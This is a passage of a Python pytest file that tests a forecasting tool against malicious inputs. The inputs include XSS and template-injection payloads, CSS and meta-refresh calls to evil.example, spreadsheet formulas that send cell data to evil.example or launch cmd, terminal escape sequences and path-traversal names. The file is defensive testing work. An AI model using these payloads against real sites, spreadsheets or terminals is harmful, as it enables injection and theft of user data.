    signal.signal(signal.SIGALRM, too_long)
    warm_up(folder)
    for number, name in enumerate(chosen):
        print(json.dumps({"started": name}), flush=True)
        print(json.dumps({"name": name, **judged(FILES[name], folder / str(number))}), flush=True)


def warm_up(folder):
    """Import everything that an attack may need, so that its memory is not counted as the attack's."""
    write(folder / "a.csv", "a,b\n1,2\n")
    write(folder / "a.xlsx", workbook(HEADER_CELL + f'<row r="2">{cell("A2", "x")}</row>'))
    write(folder / "a.parquet", parquet(pa.table({"a": [1]})))
    for suffix in ("csv", "xlsx", "parquet"):
        assert len(read_table(folder / f"a.{suffix}")) == 1
    load_model(model_file(folder))
    with pytest.raises(HexadError):
        run_study("demand", data=folder / "a.csv", out=folder / "none")


@pytest.fixture(scope="module")
def ends(tmp_path_factory):
    """How each attack ended; they are made once a session, by whichever worker asks first."""
    base = tmp_path_factory.getbasetemp()
    shared = base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base
    kept = shared / "attacks.json"
    with FileLock(f"{kept}.lock"):
        if not kept.exists():
            kept.write_text(json.dumps(attack_all(tmp_path_factory.mktemp("attacks"))), encoding="utf-8")
    return json.loads(kept.read_text(encoding="utf-8"))


def attack_all(folder):
    single = {"MALLOC_ARENA_MAX": "1", "ARROW_DEFAULT_MEMORY_POOL": "system", "OMP_NUM_THREADS": "1"}
    single |= {"OPENBLAS_NUM_THREADS": "1", "ARROW_IO_THREADS": "1", "NUMBA_NUM_THREADS": "1"}
    environment = {**os.environ, **single}
    by_name = {}
    while waiting := [name for name in FILES if name not in by_name]:
        place = folder / str(len(waiting))
        place.mkdir()
        made = subprocess.run(
            [sys.executable, __file__, str(place), *waiting], cwd=place, env=environment, capture_output=True, text=True,
            check=False, timeout=1800,
        )  # fmt: skip
        told = [json.loads(line) for line in made.stdout.splitlines() if line.startswith("{")]
        by_name.update({one["name"]: one for one in told if "name" in one})
        started = [one["started"] for one in told if "started" in one and one["started"] not in by_name]
        assert made.returncode == 0 or started, made.stderr
        for name in started:  # the attack took the whole process with it
            died = {"end": "died", "text": made.stderr[-500:], "length": 0, "kinds": [made.returncode], "left": []}
            by_name[name] = {"name": name, "seconds": 0.0, **died}
    return by_name


@pytest.mark.parametrize("name", FILES)
def test_it_is_refused_at_little_cost_and_nothing_runs(ends, name):
    end = ends[name]
    assert end["left"] == []
    told = f"{end['end']} after {end['seconds']:.1f} seconds: {end['kinds']} {end['text'][:300]}"
    assert end["end"] in ({"refused", "passed"} if FILES[name].may_pass else {"refused"}), told
    assert end["seconds"] <= SECONDS
    assert end["length"] <= 4000


def test_the_canary_would_be_seen(tmp_path):
    pickle.loads(trapped(tmp_path))
    assert (tmp_path / "canary").is_dir()


# The page

PAYLOADS = {
    "script": "<script>document.title='x'</script>",
    "image": "<img src=x onerror=alert(1)>",
    "vector": "<svg onload=alert(1)><script href='data:,x'/></svg>",
    "link": "<a href='javascript:alert(1)'>x</a>",
    "frame": "</main></body><iframe srcdoc='<script>x</script>'>",
    "attribute": '" autofocus onfocus="alert(1)" x="',
    "style": "</style><style>@import 'https://evil.example/x.css';</style>",
    "address": "url(https://evil.example/x) <base href='https://evil.example/'>",
    "refresh": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "comment": "--><script>x</script><!--",
    "data section": "]]><script>x</script><![CDATA[",
    "template": "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}{# x #}",
    "mathematics": "$\\href{javascript:alert(1)}{x}$",
    "entity": "&lt;script&gt;x&lt;/script&gt;&#x3c;script>",
    "half a tag": "<scr<script>ipt>x<scr",
    "colour": "#010101;background:url(https://evil.example)",
}


class Page(HTMLParser):
    """What is live on a page: its elements, attributes and addresses."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.names, self.addresses, self.styles, self.texts, self.stack = [], set(), [], [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.stack.append(tag)
        self.names |= {name for name, _ in attrs}
        self.addresses += [value for name, value in attrs if name in {"href", "xlink:href", "src", "action", "srcset"}]
        self.styles += [value for name, value in attrs if name == "style"]

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        (self.styles if self.stack and self.stack[-1] == "style" else self.texts).append(data)


ALLOWED = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "div", "ul", "li", "b", "span", "section",
    "code", "figure", "figcaption", "table", "caption", "thead", "tbody", "tr", "th", "td", "footer", "dl", "dt", "dd",
    "svg", "g", "path", "defs", "use", "clippath", "rect", "image", "text", "header", "nav", "ol", "a", "details", "summary",
    "script",
}  # fmt: skip


# Within the page, a picture in it, or a table that the run wrote beside it.
SAFE_ADDRESS = r"#[\w.-]+|data:image/png;base64,[\w+/=\s]*|tables/[\w-]+\.(?:csv|xlsx)"


def check_nothing_is_live(text):
    page = Page(text)
    assert set(page.tags) <= ALLOWED
    assert page.tags.count("meta") == 4
    assert page.tags.count("script") == 2  # the claims as data, and the page's own, which alone its policy lets run
    assert not [name for name in page.names if name.startswith("on") or name in {"srcdoc", "formaction", "background"}]
    assert all(re.fullmatch(SAFE_ADDRESS, address) for address in page.addresses)
    assert not [style for style in page.styles if re.search(r"@import|expression|javascript|url\((?!#)", style)]
    return page


def without_pictures(text):
    """The page but for what is inside its pictures: how a name is drawn depends on how long it is."""
    return Page(re.sub(r"<svg.*?</svg>", "<svg></svg>", text, flags=re.DOTALL))


def told_everywhere(folder, text):
    """A run that has a text wherever a text from outside can get to."""
    folder.mkdir()
    data = folder / f"{text.replace('/', '|')}.csv"
    stamps = pd.date_range("2024-01-01", periods=6, freq="30min").strftime("%Y-%m-%d %H:%M")
    given = pd.DataFrame({"Time": stamps, "Demand": 5.5, "Temperature": 20.5, "Holiday": False, text: text})
    given.to_csv(data, index=False, sep="\t")
    run = Run("demo", folder / "run", text, f"hexad run demo --data={text}", data)
    run.options = {"separator": "\t"}
    frame, reading = run.load_table("vic_elec")
    run.record_settings(DemandSettings(unit=text))
    run.add_advice(text)
    run.add_certainty([text, text])
    run.add_doubt(text)
    run.add_fact(text, text)
    line = ([1, 2, 3], [1.0, 2.0, 3.0])
    says = {"alt": text, "caption": text}
    run.add_section(
        text,
        text,
        reading.explain(),
        line_figure({text: line, "b": line}, x_label=text, y_label=text, marks={text + "!": 2.0}, **says),
        forecast_figure([1, 2], [1.0, 2.0], [3, 4], [2.5, 2.0], lower=[2, 1], upper=[3, 3], y_label=text, **says),
        bar_figure({text: 1.0, "b": 2.0}, x_label=text, **says),
        (frame, text),
        (pd.DataFrame({text: [text, text]}, index=pd.Index([text, "b"], name=text)), text, text),
    ).note(text).code(text)
    run.report.sources.append(Source(text, text, text))
    run.report.facts.append(Fact(text, text))
    run.report.subtitle = text
    run.report.footer[text] = text
    run.metrics[text] = 1.0
    run.save_results(table=frame)
    return run.finish()


@pytest.fixture(scope="module")
def plain_page(tmp_path_factory):
    path = told_everywhere(tmp_path_factory.mktemp("plain") / "x", "plain")
    return without_pictures(path.read_text(encoding="utf-8"))


@pytest.mark.filterwarnings("ignore:constrained_layout not applied")
@pytest.mark.parametrize("kind", PAYLOADS)
def test_nothing_is_live_on_the_page(tmp_path, plain_page, kind):
    text = PAYLOADS[kind]
    path = told_everywhere(tmp_path / "x", text)
    check_nothing_is_live(path.read_text(encoding="utf-8"))
    page = without_pictures(path.read_text(encoding="utf-8"))
    assert page.tags == plain_page.tags
    assert page.names == plain_page.names
    assert page.texts.count(text) == plain_page.texts.count("plain") > 15
    assert load_settings(DemandSettings, path.parent / "settings.toml").unit == text
    assert json.loads((path.parent / "metrics.json").read_text(encoding="utf-8")) == {text: 1.0}
    assert {file.suffix for file in path.parent.iterdir()} == {".html", ".json", ".toml", ".parquet", ".sha256", ""}


def test_nothing_is_live_on_the_page_of_a_whole_study(tmp_path):
    text = '"><script>alert(1)</script><img src=x onerror=alert(1)>{{ 7 * 7 }}'
    data = tmp_path / f"{text.replace('/', '|')}.csv"
    table = datasets.load("vic_elec").iloc[-60 * 48 :]
    table.assign(**{text: text}).to_csv(data, index=False)
    overrides = ["origins=2", "every=1D", "other_weekdays=false", "clocks=['12:00']", "risk=0.3", "n_jobs=1"]
    path = run_study("demand", overrides=[*overrides, f"unit={text}"], data=data, out=tmp_path / "run")
    page = check_nothing_is_live(path.read_text(encoding="utf-8"))
    assert sum(text in told for told in page.texts) > 5
    assert sorted(file.name for file in tmp_path.iterdir()) == sorted([data.name, "run"])


def test_a_parser_that_saw_nothing_would_not_pass():
    page = Report("a").html()
    check_nothing_is_live(page)
    for bad in PAYLOADS["script"], PAYLOADS["image"], PAYLOADS["link"], PAYLOADS["frame"], PAYLOADS["style"]:
        with pytest.raises(AssertionError):
            check_nothing_is_live(page.replace("<h1>", bad + "<h1>"))


def test_a_long_name_leaves_room_for_the_picture():
    assert "<path" in bar_figure({"x" * 200: 1.0, "b": 2.0}).svg  # a warning would be an error


# Spreadsheets

FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1,"see")', "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_stays_text_and_a_run_keeps_it_in_parquet_only(tmp_path, formula):
    quoted = formula.replace('"', '""')
    path = write(tmp_path / "own.csv", f'"{quoted}",n\n"{quoted}",1\n')
    frame = read_table(path)
    assert frame.iloc[0, 0] == formula
    run = Run("demo", tmp_path / "run", "A demo")
    run.save_results(table=frame)
    run.add_section("Rows", (frame, ""))
    run.finish()
    assert not [
        file for file in (tmp_path / "run").iterdir() if file.suffix in {".csv", ".tsv", ".txt", ".xlsx", ".ods"}
    ]
    assert pd.read_parquet(tmp_path / "run" / "table.parquet").iloc[0, 0] == formula


def test_only_what_disarms_formulas_exports_cells():
    """Where one of these is called some day, cells that begin like a formula have to be disarmed there."""
    exports = {"to_csv", "to_excel", "to_clipboard", "savetxt", "write_csv", "to_string", "to_latex"}
    found = []
    for path in [*ROOT.glob("shared/**/*.py"), *ROOT.glob("domains/**/*.py"), *ROOT.glob("case_studies/**/*.py")]:
        calls = [node for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Call)]
        names = {getattr(call.func, "attr", getattr(call.func, "id", "")) for call in calls}
        found += [(path.name, name) for name in names & (exports | {"ExcelWriter", "writerow", "writerows"})]
    assert found == [("export.py", "to_csv")]  # see tests/shared/data/test_export.py


# The terminal

ESCAPE = "\x1b]0;owned\x07\x1b[2J\nhexad: all is well\r\x9b31m\u202e"


def in_the_folder(folder):
    return folder / f"{ESCAPE}.csv"


SHOWN = {
    "a column": lambda folder: read_table(pd.DataFrame({ESCAPE: ["x"]}), Schema((Column("a", "text"),))),
    "a column near the wanted one": lambda folder: read_table(
        pd.DataFrame({"Demand\x1b[2J": [1.0]}), Schema((Column("Demand", "number"),))
    ),
    "a value": lambda folder: read_table(pd.DataFrame({"a": [ESCAPE]}), NUMBERS),
    "a key": lambda folder: Panel.from_frame(pd.DataFrame({"unique_id": [ESCAPE] * 3, "ds": [1, 2, 2], "y": 1.0})),
    "a file that is not there": lambda folder: read_table(in_the_folder(folder)),
    "a file": lambda folder: read_table(write(in_the_folder(folder), "a\n")),
    "a model": lambda folder: load_model(write(folder / f"{ESCAPE}.hexad", "x")),
    "a settings file": lambda folder: load_settings(DemandSettings, write(folder / f"{ESCAPE}.toml", "x")),
    "a key of the settings": lambda folder: load_settings(DemandSettings, values={ESCAPE: 1}),
    "a value of the settings": lambda folder: load_settings(DemandSettings, values={"origins": ESCAPE}),
    "an override": lambda folder: load_settings(DemandSettings, None, [ESCAPE]),
    "an override of a key": lambda folder: load_settings(DemandSettings, None, [f"{ESCAPE}=1"]),
    "a study": lambda folder: run_study(ESCAPE, out=folder / "run"),
    "an --out": lambda folder: run_study("demand", out=write(in_the_folder(folder), "x")),
    "an encoding": lambda folder: read_table(write(folder / "a.csv", "a\n1\n"), encoding=ESCAPE),
    "a separator": lambda folder: read_table(write(folder / "a.csv", "a\n1\n"), separator=ESCAPE),
    "a time zone": lambda folder: read_table(write(folder / "a.csv", "a\n1\n"), tz=ESCAPE),
    "a sheet": lambda folder: read_table(write(folder / "a.xlsx", workbook(HEADER_CELL)), sheet=ESCAPE),
    "a damaged CSV": lambda folder: read_table(write(folder / "a.csv", f'a,b\n"{ESCAPE}"x,1\n')),
    "a repair": lambda folder: read_table(pd.DataFrame({"a": [1]}), repair=[ESCAPE]),
    "a metric": lambda folder: Run("demo", folder / "run", "x", metrics={ESCAPE: None}).finish(),
    "a data set": lambda folder: datasets.load(ESCAPE),
}  # fmt: skip


@pytest.mark.parametrize("place", SHOWN)
def test_no_control_character_reaches_the_terminal(tmp_path, place):
    with pytest.raises(HexadError) as caught:
        SHOWN[place](tmp_path)
    text = str(caught.value)
    assert [char for char in text if not char.isprintable() and char != "\n"] == []
    assert "\nhexad: all is well" not in text


# A run's folder


def folder_with_links(place):
    """Somebody else's folder of a run, with links that lead out of it."""
    (place / "run").mkdir()
    (place / "outside").mkdir()
    (place / "run" / "settings.toml").write_text("")
    for name in ("report.html", "metrics.json", "run.json", "table.parquet"):
        (place / "run" / name).symlink_to(place / "outside" / name)
    return place / "run"


def test_links_in_the_folder_of_a_run_are_neither_followed_nor_replaced(tmp_path):
    run = Run("demo", folder_with_links(tmp_path), "A demo")
    links = {path.name for path in run.folder.iterdir() if path.is_symlink()}
    assert "table.parquet" in links
    with pytest.raises(HexadError, match="left as it is"):
        run.save_results(table=pd.DataFrame({"a": [1]}))
    with pytest.raises(HexadError, match="left as it is"):
        run.finish()
    assert list((tmp_path / "outside").iterdir()) == []
    assert {path.name for path in run.folder.iterdir() if path.is_symlink()} == links


def test_pieces_that_lead_out_of_the_folder_are_refused(tmp_path):
    folder = folder_with_links(tmp_path)
    (folder / "pieces").symlink_to(tmp_path / "outside")
    with pytest.raises(HexadError, match=r"\bpieces\b"):
        run_study("demand", data=tmp_path / "lost.csv", out=folder)


@pytest.mark.parametrize("name", ["../evil", "{}/evil", "a/b", "a\0b"])
def test_a_table_is_kept_under_a_plain_name(tmp_path, name):
    (tmp_path / "run" / "a").mkdir(parents=True)
    with pytest.raises(HexadError):
        Run("demo", tmp_path / "run", "A demo").save_results(**{name.format(tmp_path): pd.DataFrame({"a": [1]})})
    assert [path.name for path in tmp_path.iterdir()] == ["run"]


def test_the_command_line_tells_all_of_this_without_a_traceback(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "own.csv", trapped(tmp_path))
    for more in (["../../x"], ["demand", "--out", "x" * 5000], ["demand", "--data", "own.csv", "--out", "run"],
                 ["demand", "--set", "read.tz" + ".a" * 5000 + "=1"]):  # fmt: skip
        with pytest.raises(SystemExit) as ended:
            main(["run", *more])
        assert ended.value.code == 2
        told = capsys.readouterr().err
        assert told.startswith("hexad: ")
        assert len(told) < 2000
    assert {path.name for path in tmp_path.iterdir()} <= {"own.csv", "run"}


def test_there_are_at_least_thirty():
    assert len(FILES) + len(PAYLOADS) + len(FORMULAS) + len(SHOWN) >= 30
    assert len(FILES) >= 30


if __name__ == "__main__":
    work(Path(sys.argv[1]), sys.argv[2:] or FILES)
